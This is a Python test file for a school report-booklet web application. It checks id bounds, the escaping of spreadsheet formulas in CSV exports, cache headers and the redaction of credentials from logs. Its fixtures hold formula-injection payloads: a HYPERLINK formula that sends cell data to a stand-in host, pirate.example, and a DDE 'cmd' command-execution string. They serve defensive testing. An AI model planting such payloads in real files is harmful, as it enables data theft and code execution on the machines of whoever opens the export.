"""Hostile input to the booklet (issue 12, items 4 and 5), on SQLite and PostgreSQL: ids that overflow or are not
ids give 404, never 500; a pupil named like a spreadsheet formula stays text in the class export; exports are
never cached; login + PIN + code typed into the login field leave no digit on the administration pages."""

from __future__ import annotations

import csv
import io
import re

import sqlalchemy as sa

from booklet_web.forms import URL_ID
from booklet_web.tables import classes
from tests.web.support import PIN, code_for, csrf_token, import_roster_in_console

HOSTILE_IDS = [
    "99999999999999999999999",  # overflows every integer column
    "2147483648",  # PostgreSQL integer + 1
    "9223372036854775808",  # SQLite / bigint + 1
    "9" * 5000,  # beyond Python's int() digit limit
    "-1", "abc", "1e3", "0x10", "1_0", "+1", "%201", "1%00", "1.0",
]
ID_ROUTES = ["/classe/{}", "/classe/{}/export.csv", "/eleve/{}/livret", "/eleve/{}/livret.pdf"]


def test_every_route_with_an_id_is_in_this_test_and_bounds_it(app):
    """A route added with a database id in its path (an ``int`` converter, or an argument named ``*_id``) must read
    it with URL_ID and be added to ID_ROUTES, so to the test below."""
    with_ids = [r for r in app.url_map.iter_rules()
                if "<int" in r.rule or any(a.endswith("_id") for a in r.arguments)]
    assert {re.sub(r"<[^>]+>", "{}", r.rule) for r in with_ids} == set(ID_ROUTES)
    for rule in with_ids:
        assert all(f"<{URL_ID}:{a}>" in rule.rule for a in rule.arguments if a.endswith("_id")), rule.rule


def test_malformed_or_oversized_ids_in_urls_are_404_never_500(any_world):
    client = any_world.app.test_client()
    any_world.log_in(client, "adurand")  # the administrator reaches every class: only the id can refuse
    for route in ID_ROUTES:
        for bad in HOSTILE_IDS:
            answer = client.get(route.format(bad))
            assert answer.status_code == 404, (route, bad[:30], answer.status_code)
            assert "Page introuvable" in answer.text
        assert client.get(route.format(2**31 - 1)).status_code == 404  # the largest id: looked up, not found


def test_oversized_ids_in_query_strings_and_forms_are_4xx_never_500(any_world):
    client = any_world.app.test_client()
    any_world.log_in(client, "adurand")
    a, pa = any_world.class_id("3A"), any_world.pupil_ids("3A")[0]
    token = csrf_token(client.get("/admin/").text)
    for bad in HOSTILE_IDS + [str(2**31 - 1)]:
        for answer in (
            client.get(f"/livret?classe={bad}&eleve={pa}&competence=C1"),
            client.get(f"/livret?classe={a}&eleve={bad}&competence=C1"),
            client.post("/admin/affectations", data={"csrf_token": token, "enseignant": bad, "classe": a,
                                                     "action": "ajouter"}),
            client.post("/admin/affectations", data={"csrf_token": token, "enseignant": any_world.users["jdupont"],
                                                     "classe": bad, "action": "ajouter"}),
            client.post("/livret/enregistrer", data={"csrf_token": token, "classe": a, "eleve": bad,
                                                     "competence": "C1", "item": "C1.1"}),
        ):
            assert 400 <= answer.status_code < 500, (bad[:30], answer.request.path, answer.status_code)


FORMULAS = {
    "nom": '=HYPERLINK("http://pirate.example/?d="&A2;"Voir le bulletin")',
    "prenom": "@SUM(1+1)*cmd|' /C calc'!A0",
    "identifiant": "-2",
}


def import_roster(client, rows: list[list[str]]):
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["type", "classe", "nom", "prenom", "identifiant"])
    writer.writerows(rows)
    return import_roster_in_console(client, out.getvalue().encode())


def test_a_pupil_named_like_a_formula_is_text_in_the_class_export(any_world):
    client = any_world.app.test_client()
    any_world.log_in(client, "adurand")
    answer = import_roster(client, [["eleve", "3P", FORMULAS["nom"], FORMULAS["prenom"], FORMULAS["identifiant"]],
                                    ["eleve", "3P", "+33 6 12 34 56 78", "Léa", "E3P02"],
                                    ["eleve", "3P", "Normal", "Tom", "E3P03"]])
    assert answer.status_code == 200, answer.text
    with any_world.app.extensions["jeton"].db.engine.connect() as conn:
        class_id = conn.execute(sa.select(classes.c.id).where(classes.c.name == "3P")).scalar_one()
    export = client.get(f"/classe/{class_id}/export.csv")
    assert export.status_code == 200
    rows = {row[2]: row for row in csv.reader(io.StringIO(export.text.lstrip("\ufeff")), delimiter=";")}
    formula = rows["'" + FORMULAS["prenom"]]
    assert formula[:3] == ["'" + FORMULAS["identifiant"], "'" + FORMULAS["nom"], "'" + FORMULAS["prenom"]]
    assert rows["Léa"][:3] == ["E3P02", "'+33 6 12 34 56 78", "Léa"]
    assert rows["Tom"][:3] == ["E3P03", "Normal", "Tom"]  # ordinary cells are untouched


def test_exports_are_never_cached(any_world):
    client = any_world.app.test_client()
    any_world.log_in(client, "adurand")
    csv_export = client.get(f"/classe/{any_world.class_id('3A')}/export.csv")
    token = csrf_token(client.get("/admin/export.xml").text)
    xml_export = client.post("/admin/export.xml", data={"csrf_token": token, "uai": "0380001A"})
    for answer in (csv_export, xml_export):
        assert answer.status_code == 200 and answer.headers["Content-Disposition"].startswith("attachment;")
        assert answer.headers["Cache-Control"] == "no-store"


def test_login_pin_and_code_typed_in_the_login_field_never_reach_the_admin_pages(any_world):
    world = any_world
    world.activate("jdupont")
    code = code_for("jdupont", world.clock.t)
    teacher = world.app.test_client()
    for typed in (f"jdupont{PIN}{code}", f"jdupont {PIN} {code}"):
        page = teacher.get("/connexion/")
        answer = teacher.post("/connexion/", data={"csrf_token": csrf_token(page.text), "identifiant": typed,
                                                   "passcode": PIN + code})
        assert answer.status_code == 401 and "L&#39;authentification a échoué." in answer.text
    admin = world.app.test_client()
    world.log_in(admin, "adurand")
    journal = admin.get("/admin/journal-connexions").text
    assert journal.count("<td>jdupont</td>") >= 2 and "dropped" in journal
    for page in (journal, admin.get("/admin/journal").text, admin.get("/admin/cles").text):
        assert f"{PIN}{code}" not in page and f"{PIN} {code}" not in page and code not in page
    for entry in world.store.audit(limit=50):
        assert code not in str(entry) and f"jdupont{PIN}" not in str(entry)
